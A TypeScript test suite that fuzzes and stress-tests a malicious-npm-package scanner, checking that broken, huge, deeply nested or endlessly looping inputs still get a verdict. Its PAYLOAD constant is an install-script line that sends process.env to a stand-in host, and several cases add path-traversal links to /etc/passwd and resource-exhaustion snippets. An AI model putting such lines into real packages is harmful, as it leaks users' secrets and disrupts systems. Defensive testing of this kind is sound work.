import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { pick, type Random, seededRandom } from '../../bench/detect/mutation/random.js';
import { analyzePackage, analyzeTarball, defaultRulesFolder, loadRules } from '../../src/analyze/index.js';
import type { Verdict } from '../../src/model.js';
import { type Entry, pack, packed, withInstallScript } from './fuzz/tarball.js';

const rules = loadRules([defaultRulesFolder()]);
const PAYLOAD = "require('https').request({ host: 'fuzz.invalid', method: 'POST' }).end(JSON.stringify(process.env));";
const fixtures = fileURLToPath(new URL('../../fixtures/malicious/', import.meta.url));

function scan(entries: readonly Entry[]): Verdict {
  return analyzeTarball(packed(entries), rules);
}

/** Processor time of this process in milliseconds: other work on the machine does not lengthen it. */
function cpu(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

function ids(verdict: Verdict): string[] {
  return verdict.findings.map(({ rule }) => rule);
}

/** Files of the fixtures with this ending: the corpus that is broken at random. */
function corpus(pattern: RegExp): Buffer[] {
  const found = readdirSync(fixtures, { recursive: true, withFileTypes: true }).filter(
    (entry) => entry.isFile() && pattern.test(entry.name),
  );
  const files = found.map((entry) => readFileSync(join(entry.parentPath, entry.name)));
  return files.filter(({ length }) => length < 20_000);
}

const SNIPPETS = [
  '`',
  '${',
  '}',
  '"',
  "'",
  '(',
  ')',
  '\\',
  '/*',
  '*/',
  '<!(',
  '$(',
  '\0',
  '\u{e0041}',
  '=>',
  '<<EOF',
  '%',
];

function broken(bytes: Buffer, random: Random): Buffer {
  let current = Buffer.from(bytes);
  for (let times = 1 + Math.floor(random() * 4); times > 0; times--) {
    const [a, b] = [Math.floor(random() * current.length), Math.floor(random() * current.length)];
    const [from, to] = [Math.min(a, b), Math.max(a, b)];
    const ways = [
      () => current.subarray(0, to),
      () => Buffer.concat([current.subarray(0, from), current.subarray(to)]),
      () => Buffer.concat([current.subarray(0, to), current.subarray(from)]),
      () => Buffer.concat([current.subarray(0, from), Buffer.from(pick(random, SNIPPETS)), current.subarray(from)]),
      () => {
        const copy = Buffer.from(current);
        if (copy.length > 0) copy[from] = Math.floor(random() * 256);
        return copy;
      },
    ];
    current = Buffer.from(pick(random, ways)());
  }
  return current;
}

/** Scans many broken files of one language through the way it is reached; each must give a verdict in time. */
function fuzz(seed: string, pattern: RegExp, rounds: number, entriesFor: (body: Buffer) => Entry[]): void {
  const random = seededRandom(seed);
  const files = corpus(pattern);
  expect(files.length).toBeGreaterThan(0);
  for (let round = 0; round < rounds; round++) {
    const body = broken(pick(random, files), random);
    const started = cpu();
    let verdict: Verdict;
    try {
      verdict = scan(entriesFor(body));
    } catch (error) {
      throw new Error(`${seed}, round ${round}: ${JSON.stringify(body.toString('utf8').slice(0, 400))}`, {
        cause: error,
      });
    }
    expect(['allow', 'review', 'block']).toContain(verdict.action);
    expect(cpu() - started, `${seed}, round ${round}: ${body.toString('utf8').slice(0, 400)}`).toBeLessThan(10_000);
  }
}

function manifestWith(scripts: Record<string, string>): Entry {
  return { path: 'package/package.json', body: JSON.stringify({ name: 'subject', version: '1.0.0', scripts }) };
}

describe('broken files give a verdict, never a crash or a hang', () => {
  it('JavaScript', { timeout: 120_000 }, () => {
    fuzz('javascript', /\.[cm]?js$/, 150, (body) => withInstallScript(body));
  });

  it('shell files', { timeout: 60_000 }, () => {
    fuzz('shell', /\.sh$/, 120, (body) => [manifestWith({ postinstall: 'sh ./x.sh' }), { path: 'package/x.sh', body }]);
  });

  it('script text', { timeout: 60_000 }, () => {
    fuzz('script text', /\.sh$/, 120, (body) => [manifestWith({ postinstall: body.toString('utf8') })]);
  });

  it('gyp', { timeout: 60_000 }, () => {
    fuzz('gyp', /\.gypi?$/, 120, (body) => [
      { path: 'package/package.json', body: '{"name":"subject","version":"1.0.0"}' },
      { path: 'package/binding.gyp', body },
      { path: 'package/deps/common.gypi', body },
    ]);
  });

  it('Python, PowerShell and batch', { timeout: 60_000 }, () => {
    for (const [language, start] of [
      ['py', 'python3 x.py'],
      ['ps1', 'powershell -File x.ps1'],
      ['bat', 'cmd /c x.bat'],
    ] as const) {
      fuzz(language, new RegExp(`\\.${language}$`), 50, (body) => [
        manifestWith({ install: start }),
        { path: `package/x.${language}`, body },
      ]);
    }
  });

  it('package.json', { timeout: 60_000 }, () => {
    fuzz('manifest', /^package\.json$/, 150, (body) => [
      { path: 'package/package.json', body },
      { path: 'package/index.js', body: 'module.exports = 1;' },
    ]);
  });

  it('tarballs', { timeout: 60_000 }, () => {
    const random = seededRandom('tar');
    const whole = pack(withInstallScript(PAYLOAD));
    for (let round = 0; round < 200; round++) {
      const tar = broken(whole, random);
      const bytes = random() < 0.5 ? gzipSync(tar) : broken(gzipSync(tar), random);
      expect(['allow', 'review', 'block']).toContain(analyzeTarball(bytes, rules).action);
    }
  });
});

describe('values of the wrong kind in package.json', () => {
  const wrong = [null, 7, true, '', 'x', [], {}, [[[]]], { a: { b: null } }, '\u0000', '../../x', 'a'.repeat(1e5)];
  const fields = [
    'name',
    'version',
    'scripts',
    'main',
    'module',
    'browser',
    'exports',
    'imports',
    'bin',
    'directories',
  ];
  const more = ['dependencies', 'optionalDependencies', 'bundleDependencies', 'gypfile', 'config', 'files', 'man'];

  it.each([...fields, ...more])('%s', (field) => {
    for (const value of wrong) {
      const manifest = { name: 'subject', version: '1.0.0', [field]: value };
      const verdict = scan([{ path: 'package/package.json', body: JSON.stringify(manifest) }]);
      expect(['allow', 'review', 'block']).toContain(verdict.action);
    }
  });
});

describe('hostile input does not get past as allow', () => {
  const limit = { timeout: 120_000 };

  it('a hundred megabytes on one line', limit, () => {
    const noise = Buffer.alloc(100 * 1024 * 1024, 'x=1+1;');
    const started = cpu();
    const verdict = scan(withInstallScript(Buffer.concat([noise, Buffer.from(PAYLOAD)])));
    expect(verdict.action).not.toBe('allow');
    expect(cpu() - started).toBeLessThan(60_000);
  });

  it('a payload behind five megabytes of code', limit, () => {
    const functions = Array.from(
      { length: 40_000 },
      (_, i) => `function f${i}(a,b){return a*${i}+b-(a%${(i % 7) + 2})}`,
    );
    const code = `${functions.slice(0, 20_000).join(';')};(function(){${PAYLOAD}})();${functions.slice(20_000).join(';')}`;
    const verdict = scan(withInstallScript(code.padEnd(5 * 1024 * 1024, ' ')));
    expect(verdict.action).not.toBe('allow');
  });

  const deep: Record<string, string> = {
    parentheses: `${'('.repeat(50_000)}1${')'.repeat(50_000)};${PAYLOAD}`,
    arrays: `${'['.repeat(50_000)}${']'.repeat(50_000)};${PAYLOAD}`,
    blocks: `${'{'.repeat(50_000)}${'}'.repeat(50_000)};${PAYLOAD}`,
    functions: `${'(function(){'.repeat(20_000)}${PAYLOAD}${'})()'.repeat(20_000)}`,
    sums: `var s = ${Array.from({ length: 50_000 }, () => "'a'").join('+')};${PAYLOAD}`,
    members: `var o = {}; o${'.a'.repeat(50_000)};${PAYLOAD}`,
    ternaries: `var t = ${'1?1:'.repeat(30_000)}0;${PAYLOAD}`,
    templates: `var t = ${'`${'.repeat(10_000)}1${'}`'.repeat(10_000)};${PAYLOAD}`,
    calls: `var f = (x) => x; ${'f('.repeat(30_000)}1${')'.repeat(30_000)};${PAYLOAD}`,
  };
  it.each(Object.entries(deep))('deep nesting: %s', limit, (_, code) => {
    expect(scan(withInstallScript(code)).action).not.toBe('allow');
  });

  const endless: Record<string, string> = {
    'a loop without end': `for (;;) {} ${PAYLOAD}`,
    'a loop that only counts': `let i = 0; while (i < 1e12) i++; ${PAYLOAD}`,
    'recursion without end': `function f() { return f(f()); } f(); ${PAYLOAD}`,
    'a string that doubles': `let s = 'x'; for (let i = 0; i < 60; i++) s += s; ${PAYLOAD}`,
    'a huge repeat': `const s = 'x'.repeat(2 ** 29); const p = s.padEnd(2 ** 30); ${PAYLOAD}`,
    'an array without end': `const a = []; for (;;) { a.push(a.slice()); if (a.length > 1e9) break; } ${PAYLOAD}`,
    'arrays spread without end': `let a = [1]; for (;;) a = [...a, ...a, a]; ${PAYLOAD}`,
    'arrays joined by concat without end': `const k = []; let a = [1]; for (;;) { a = a.concat(a, a); k.push(a); } ${PAYLOAD}`,
    'buffers without end': `const a = []; for (;;) a.push(Buffer.alloc(8e6)); ${PAYLOAD}`,
    'texts without end': `const a = []; for (let i = 0; ; i++) a.push(('x'.repeat(4e6) + i).toUpperCase()); ${PAYLOAD}`,
    'a text cut into characters without end': `const a = []; for (;;) a.push('ab'.repeat(1e5).split('')); ${PAYLOAD}`,
    'a map without end': `const m = new Map(); for (let i = 0; ; i++) m.set(i, [...m]); ${PAYLOAD}`,
    'an object without end': `let o = {}; for (let i = 0; ; i++) { o['k' + i] = 1; o = { ...o }; } ${PAYLOAD}`,
    'branches that copy a long array': `const a = Array(1e5).fill(0); for (let i = 0; i < 1e9; i++) if (process.pid % 2) a.push(i); ${PAYLOAD}`,
    'a getter that calls itself': `const o = { get a() { return o.a; } }; o.a; ${PAYLOAD}`,
    'a proxy of itself': `let p = new Proxy({}, { get: (t, k) => p[k] }); p.a; ${PAYLOAD}`,
    'eval of itself': `const c = 'eval(c)'; eval(c); ${PAYLOAD}`,
    'a slow regular expression': `/^(a+)+$/.test('${'a'.repeat(60)}!'); ${PAYLOAD}`,
    'a regular expression over a long text': `'${'ab'.repeat(20_000)}'.replace(/(?:a|ab)(?:c|bcd)*(?:d*)$/g, 'x'); ${PAYLOAD}`,
    'a generator without end': `function* g() { for (;;) yield 1; } for (const x of g()) x; ${PAYLOAD}`,
    'huge numbers': `const b = 2n ** 1000000n; const c = b * b; c.toString(); ${PAYLOAD}`,
    'new Array of everything': `const a = new Array(4294967295).fill(0).map(String).join(); ${PAYLOAD}`,
  };
  it.each(Object.entries(endless))('work without end: %s', limit, (_, code) => {
    const started = cpu();
    expect(scan(withInstallScript(code)).action).not.toBe('allow');
    expect(cpu() - started).toBeLessThan(15_000);
  });

  it('modules that require each other', () => {
    const entries = withInstallScript("require('./a');", [
      { path: 'package/a.js', body: `require('./b'); exports.x = 1;` },
      { path: 'package/b.js', body: `const a = require('./a'); require('./setup'); ${PAYLOAD}` },
    ]);
    expect(scan(entries).action).toBe('block');
  });

  it('a file that does not parse', () => {
    expect(scan(withInstallScript(`%%% ${PAYLOAD} {{{`)).action).not.toBe('allow');
  });

  it('a manifest that does not parse', () => {
    expect(scan([{ path: 'package/package.json', body: '{"name": "x", ' }]).action).not.toBe('allow');
  });

  it('no manifest at all', () => {
    expect(scan([{ path: 'package/readme.txt', body: 'nothing' }]).action).not.toBe('allow');
  });

  it('bytes that are no tarball', () => {
    for (const bytes of [Buffer.alloc(0), Buffer.from('hello'), gzipSync(Buffer.from('hello')), Buffer.alloc(5000, 7)])
      expect(analyzeTarball(bytes, rules).action).not.toBe('allow');
  });

  it('a decompression bomb', limit, () => {
    const zeros = Buffer.alloc(300 * 1024 * 1024);
    const verdict = analyzeTarball(packed([manifestWith({}), { path: 'package/zeros.bin', body: zeros }]), rules);
    expect(verdict.action).not.toBe('allow');
  });

  it('a tarball that ends in the middle of an entry', () => {
    const tar = pack([
      manifestWith({ postinstall: 'node setup.js' }),
      { path: 'package/setup.js', body: '1', claims: 1e6 },
    ]);
    expect(analyzeTarball(gzipSync(tar), rules).action).not.toBe('allow');
  });

  const traversal: Record<string, Entry> = {
    'parent folders': { path: 'package/../../../tmp/x.js', body: PAYLOAD },
    'an absolute path': { path: '/etc/cron.d/x', body: PAYLOAD },
    'a backslash path': { path: 'package/..\\..\\x.js', body: PAYLOAD },
    'a link out of the package': { path: 'package/l', type: 'SymbolicLink', linkpath: '../../../../etc/passwd' },
    'a hard link out of the package': { path: 'package/h', type: 'Link', linkpath: '/etc/passwd' },
    'a device': { path: 'package/dev', type: 'CharacterDevice' },
    'a pipe': { path: 'package/pipe', type: 'FIFO' },
  };
  it.each(Object.entries(traversal))('%s', (_, entry) => {
    expect(scan([manifestWith({}), entry]).action).not.toBe('allow');
  });

  it('the same path twice, the payload in either', () => {
    const clean = 'module.exports = 1;';
    for (const [first, second] of [
      [clean, PAYLOAD],
      [PAYLOAD, clean],
    ] as const) {
      const entries = withInstallScript(first, [{ path: 'package/setup.js', body: second }]);
      expect(scan(entries).action).not.toBe('allow');
    }
  });

  it('the same path in other writings', () => {
    for (const path of ['package/./setup.js', 'package//setup.js', 'package/x/../setup.js']) {
      const entries = withInstallScript('module.exports = 1;', [{ path, body: PAYLOAD }]);
      expect(scan(entries).action, path).not.toBe('allow');
    }
  });

  it('another top folder than package', () => {
    const entries = withInstallScript(PAYLOAD).map((entry) => ({
      ...entry,
      path: entry.path.replace('package', 'x-1'),
    }));
    expect(scan(entries).action).toBe('block');
  });

  it('a verdict of the plain payload for comparison', () => {
    const verdict = scan(withInstallScript(PAYLOAD));
    expect(verdict.action).toBe('block');
    expect(ids(verdict)).not.toEqual([]);
  });
});

describe('a package in memory', () => {
  it('with very many files gives a verdict', { timeout: 60_000 }, () => {
    const files = new Map<string, Uint8Array>([['package.json', Buffer.from('{"name":"a","version":"1.0.0"}')]]);
    for (let i = 0; i < 20_000; i++) files.set(`lib/f${i}.js`, Buffer.from(`exports.a = require('./f${i + 1}');`));
    files.set('index.js', Buffer.from("require('./lib/f0');"));
    const verdict = analyzePackage(
      {
        files,
        variants: new Map(),
        modes: new Map(),
        plain: true,
        problems: [],
        integrity: null,
        bytes: 1e6,
        entries: files.size,
      },
      rules,
    );
    expect(['allow', 'review', 'block']).toContain(verdict.action);
  });
});
